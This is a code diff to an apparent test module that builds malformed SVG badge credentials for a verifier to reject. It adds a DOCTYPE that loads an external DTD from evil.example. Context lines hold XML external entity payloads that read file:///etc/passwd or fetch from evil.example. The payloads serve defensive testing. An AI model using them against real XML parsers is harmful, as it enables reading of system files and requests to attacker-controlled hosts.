@@ -46,6 +46,9 @@ class Defect:
     """What the issuer's status list address answers, where it is not the usual."""
 
 
+W3C_TYPE = (
+    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+)
 Change = Callable[[dict], object]
 
 
@@ -588,6 +591,9 @@ def _svg() -> Iterator[Defect]:
         "credential-deep-inside": svg.replace(b"<title>", b"<g>" + element + b"</g><title>"),
         "element-inside-credential": ours.replace(b"<![CDATA[", b"<b/><![CDATA["),
         "document-type": b"<!DOCTYPE svg>" + ours,
+        "document-type-elsewhere": b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + ours,
+        "document-type-with-skipped-entity": W3C_TYPE + ours.replace(b'{"@context"', b'&x;{"@context"'),
+        "document-type-with-entity-in-attribute": W3C_TYPE + ours.replace(b"<openbadges:credential", b'<openbadges:credential a="&x;"'),
         "entity-file": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ours.replace(b"A badge", b"&x;"),
         "entity-network": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/">]>' + ours,
         "parameter-entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/"> %x;]>' + ours,
